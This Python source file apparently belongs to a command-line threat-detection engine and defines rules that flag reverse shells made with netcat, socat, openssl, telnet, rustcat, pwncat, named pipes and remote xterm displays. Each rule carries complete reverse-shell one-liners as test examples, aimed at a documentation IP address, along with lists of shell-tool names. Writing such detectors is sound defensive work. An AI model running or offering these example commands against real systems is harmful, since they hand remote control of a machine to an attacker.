"""Shells behind a network client: netcat, socat, openssl, telnet, with an option, a pipe or a fifo."""

from apps.detection.argv import getopt
from apps.detection.argv.invocation import Invocation
from apps.detection.argv.launchers import SHELLS
from apps.detection.argv.names import names, program_name
from apps.detection.reading import Reading
from apps.detection.rules.base import Detail, Rule
from apps.detection.rules.tunnels.relays import socat_addresses

_NETCATS = names(
    """
    nc ncat cryptcat dbd sbd rcat rustcat pwncat pwncat-cs netkitty gs-netcat
    """
)
_EXECUTES = frozenset({"--exec", "--sh-exec", "--lua-exec", "--execute"})
_CLIENTS = _NETCATS | {"telnet", "socat", "openssl", "rlwrap", "websocat", "tclsh-socket", "curl-telnet"}
_RUNS = ("exec", "system", "shell")
_NOT_RUN = frozenset({"true", "false", "yes", "tls"})


def _netcat(invocation: Invocation) -> Detail | None:
    options = getopt(
        invocation.args,
        "c:e:i:I:o:O:p:P:q:s:T:w:x:X:g:G:m:d:",
        _EXECUTES | {"--source-port", "--wait", "--proxy"},
    )
    for name, value in options.given:
        if name not in ("e", "c", *_EXECUTES) or not value:
            continue
        first = program_name(value.split()[0]) if value.split() else ""
        if (
            name == "c"
            and invocation.program == "nc"
            and not (first in SHELLS or "sh" in value or "/" in value)
        ):
            continue  # in OpenBSD's netcat -c is TLS and takes no value
        words = [w for w in options.rest if w[:1] != "-"]
        return {"runs": value, "remote": ":".join(words[:2]), "listens": options.has("l", "--listen")}
    return None


def _rust(invocation: Invocation) -> Detail | None:
    """rcat and pwncat say it in their own way: connect -s shell, --self-inject."""
    args = invocation.args
    shell = getopt(args, "s:e:p:", frozenset({"--shell", "--exec", "--cmd"})).value(
        "s", "e", "--shell", "--exec"
    )
    if invocation.program in ("rcat", "rustcat") and ({"connect", "c", "-r"} & set(args[:1])):
        return {"runs": shell or "bash", "remote": ":".join(args[-2:])} if shell or "-r" in args else None
    return (
        {"runs": "controller", "arguments": " ".join(args)}
        if invocation.program == "pwncat-cs" and args
        else None
    )


def _socat(invocation: Invocation) -> Detail | None:
    kinds = socat_addresses(invocation.args)
    runs = [(kind, rest) for kind, rest in kinds if kind.startswith(_RUNS)]
    others = [(kind, rest) for kind, rest in kinds if not kind.startswith(_RUNS)]
    network = [
        rest
        for kind, rest in others
        if kind.startswith(("tcp", "udp", "openssl", "ssl", "sctp", "ip", "socks", "proxy", "vsock"))
    ]
    terminal = [rest for kind, rest in others if kind.startswith("file") and "tty" in rest]
    if runs and network:
        return {"runs": runs[0][1].partition(",")[0], "remote": network[0].partition(",")[0]}
    if not runs and len(kinds) == 2 and terminal:
        listener = next((rest for kind, rest in kinds if kind.startswith(("tcp", "openssl"))), "")
        return {"runs": "terminal", "remote": listener.partition(",")[0]} if listener else None
    return None


def _client(invocation: Invocation) -> str:
    """Where a network client in a pipeline connects to, or nothing."""
    program, args = invocation.program, invocation.args
    if program not in _CLIENTS:
        return ""
    if program == "openssl":
        return getopt(args[1:], "").rest[-1] if args[:1] == ("s_client",) and len(args) > 1 else ""
    if program in _NETCATS and any(
        word[:2] == "-z" or (word[:1] == "-" and word[1:2] != "-" and "z" in word) for word in args
    ):
        return ""  # only looks whether a port is open
    words = [word for word in args if word[:1] != "-"]
    return (
        ":".join(words[:2])
        if words
        else ("listening" if "-l" in args or any("l" in a for a in args[:1]) else "")
    )


def _reads_commands(invocation: Invocation) -> bool:
    if invocation.program not in SHELLS and invocation.program not in ("python", "perl", "php", "ruby"):
        return False
    operands = [word for word in invocation.args if word[:1] not in ("-", "+")]
    bundled = "".join(word[1:] for word in invocation.args if word[:1] == "-" and word[1:2] != "-")
    return not operands and not (invocation.program in SHELLS and "c" in bundled)


def _pipeline(reading: Reading) -> Detail | None:
    for stages in reading.pipelines:
        members = [invocation for stage in stages for invocation in stage]
        where = next((found for invocation in members if (found := _client(invocation))), "")
        shell = next((i for i in members if _reads_commands(i)), None)
        if where and shell is not None:
            fifo = any(i.program in ("mkfifo", "mknod") for i in reading.invocations)
            return {"shell": shell.program, "remote": where, "fifo": fifo}
    return None


def _fifo(reading: Reading) -> Detail | None:
    """The same loop without a pipe: shell and client share named pipes through redirections."""
    if not any(i.program in ("mkfifo", "mknod") for i in reading.invocations):
        return None
    shells = [i for i in reading.invocations if _reads_commands(i) and i.redirects]
    clients = [i for i in reading.invocations if _client(i) and i.redirects]
    for shell in shells:
        names = {r.target for r in shell.redirects if "/" in r.target or r.target.isalnum()}
        for client in clients:
            if names & {r.target for r in client.redirects}:
                return {"shell": shell.program, "remote": _client(client), "fifo": True}
    return None


def _display(invocation: Invocation) -> Detail | None:
    options = getopt(invocation.args, "", frozenset({"--display"}))
    args = invocation.args
    display = options.value("--display") or next(
        (args[i + 1] for i, w in enumerate(args[:-1]) if w == "-display"), ""
    )
    host = display.rpartition(":")[0]
    local = host in ("", "localhost", "127.0.0.1", "unix") or host.startswith("/")
    return None if local else {"remote": display, "shell": "xterm"}


NETCAT = Rule(
    slug="netcat-executes",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Netcat hands a connection to a program",
    description=(
        "nc or ncat with -e, -c or --exec: whoever is on the other side commands that program."
    ),
    false_positives="A toy server in a tutorial.",
    examples=(
        "nc -e /bin/sh 203.0.113.9 4444", "ncat --sh-exec bash 203.0.113.9 443",
        "busybox nc -lvp 4444 -e sh", "nc -nv 203.0.113.9 443 -e/bin/bash",
    ),
    match=_netcat,
    programs=_NETCATS,
)  # fmt: skip
RUST = Rule(
    slug="shell-controller",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Reverse shell tool",
    description="A program made to hold reverse shells (rustcat, pwncat).",
    false_positives="Security exercises.",
    examples=("rcat connect -s bash 203.0.113.9 443", "pwncat-cs -lp 4444"),
    match=_rust,
    programs=frozenset({"rcat", "rustcat", "pwncat-cs"}),
)
SOCAT = Rule(
    slug="socat-executes",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="socat hands a connection to a program",
    description=(
        "socat joins a network address to a program (EXEC, SYSTEM, SHELL), or a terminal to a listener."
    ),
    false_positives="A toy server in a tutorial.",
    examples=(
        "socat TCP:203.0.113.9:443 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr",
    ),
    match=_socat,
    programs=frozenset({"socat"}),
)  # fmt: skip
PIPELINE = Rule(
    slug="shell-in-pipe",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Shell piped to a network client",
    description=(
        "A shell that reads its standard input stands in one pipeline with netcat, telnet, socat or openssl."
    ),
    false_positives="None known.",
    examples=(
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > "
        "/tmp/s; rm /tmp/s",
        "telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445",
    ),
    match=_pipeline,
    reads="reading",
    programs=frozenset(_CLIENTS),
    hints=("|",),
)
FIFO = Rule(
    slug="shell-over-fifo",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Shell and network client joined by a named pipe",
    description="A shell and a network client read and write the same named pipe.",
    false_positives="None known.",
    examples=("mknod /tmp/bp p; /bin/sh 0</tmp/bp & nc 203.0.113.9 443 1>/tmp/bp",),
    match=_fifo,
    reads="reading",
    programs=frozenset({"mkfifo", "mknod"}),
)
DISPLAY = Rule(
    slug="terminal-on-foreign-display",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="high",
    technique="T1059.004",
    title="Terminal opened on another machine's display",
    description="xterm and its kin with -display of another host is a reverse shell by X11.",
    false_positives="Remote X11 as it was done long ago.",
    examples=("xterm -display 203.0.113.9:1",),
    match=_display,
    programs=frozenset({"xterm", "uxterm", "rxvt", "urxvt", "gnome-terminal", "konsole", "aterm", "eterm"}),
)
RULES = (NETCAT, RUST, SOCAT, PIPELINE, FIFO, DISPLAY)
